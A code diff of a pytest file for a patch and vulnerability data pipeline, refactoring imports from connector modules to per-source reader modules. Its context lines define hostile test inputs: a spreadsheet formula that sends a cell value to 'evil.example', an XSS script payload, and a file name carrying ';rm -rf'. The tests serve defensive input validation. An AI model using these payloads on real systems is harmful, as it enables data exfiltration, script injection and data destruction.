@@ -117,17 +117,22 @@ import pytest
 from fixtures_registers import write_register
 
 from assets import monitoring
-from pipelines.connectors import azure_files, log_analytics
-from pipelines.connectors.registers import REGISTERS, RegisterValidationError, load_register
+from pipelines.ingest.errors import SourceFileError
 from pipelines.resources import RunSettings, WarehouseResource, connect_warehouse
 from pipelines.sources import kev
 from pipelines.sources.bulletins.resource import bulletin_resources
+from pipelines.sources.compute.reader import load_virtual_machines
 from pipelines.sources.epss import assets as epss_assets
 from pipelines.sources.epss.reader import read_epss
 from pipelines.sources.kev import assets as kev_assets
 from pipelines.sources.kev.reader import read_kev
+from pipelines.sources.log_analytics.reader import load_log_analytics
 from pipelines.sources.msrc import assets as msrc_assets
 from pipelines.sources.msrc.parser import parse_file
+from pipelines.sources.patch_operations.reader import load_patch_operations
+from pipelines.sources.registers import REGISTERS
+from pipelines.sources.registers.reader import RegisterValidationError, load_register
+from pipelines.sources.resource_graph.reader import load_resource_graph
 from pipelines.warehouse import transaction
 
 VM = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1"
@@ -135,7 +140,7 @@ FIVE_MB = "x" * (5 * 2**20)
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
 ODD = "odd name ü;rm -rf"
-LOAD_ERRORS = (azure_files.SourceFileError, RegisterValidationError)
+LOAD_ERRORS = (SourceFileError, RegisterValidationError)
 
 
 # ---------------------------------------------------------------- file builders
@@ -363,7 +368,7 @@ LoadFn = Callable[[duckdb.DuckDBPyConnection, Path], object]
 
 
 def _la(la_table: str, table: str) -> LoadFn:
-    return lambda conn, estate: log_analytics.load_log_analytics(conn, estate, la_table, table, "run")
+    return lambda conn, estate: load_log_analytics(conn, estate, la_table, table, "run")
 
 
 def _register_loader(name: str) -> LoadFn:
@@ -372,20 +377,20 @@ def _register_loader(name: str) -> LoadFn:
 
 DIRECT_SOURCES: dict[str, tuple[str, LoadFn, Callable[[Path], object]]] = {
     "vm": ("raw.virtual_machines",
-           lambda c, e: azure_files.load_virtual_machines(c, e, "raw.virtual_machines", "run"),
+           lambda c, e: load_virtual_machines(c, e, "raw.virtual_machines", "run"),
            lambda e: write(e, "azure/virtual_machines.json", dump([vm_resource()]))),
     "arg_assess": ("raw.patch_assessment_resources",
-                   lambda c, e: azure_files.load_resource_graph(
+                   lambda c, e: load_resource_graph(
                        c, e, "patchassessmentresources", "raw.patch_assessment_resources", "run"),
                    lambda e: write(e, "azure/resource_graph/patchassessmentresources-1.json",
                                    dump(arg_assessment()))),
     "arg_install": ("raw.patch_installation_resources",
-                    lambda c, e: azure_files.load_resource_graph(
+                    lambda c, e: load_resource_graph(
                         c, e, "patchinstallationresources", "raw.patch_installation_resources", "run"),
                     lambda e: write(e, "azure/resource_graph/patchinstallationresources-1.json",
                                     dump(arg_installation()))),
     "ops": ("raw.patch_operations",
-            lambda c, e: azure_files.load_patch_operations(c, e, "raw.patch_operations", "run"),
+            lambda c, e: load_patch_operations(c, e, "raw.patch_operations", "run"),
             lambda e: write(e, "azure/patch_operations/op1.json", dump(operation()))),
     "la_update": ("raw.la_update", _la("Update", "raw.la_update"),
                   lambda e: write(e, "log_analytics/Update.csv", la_csv(la_rows(3)))),
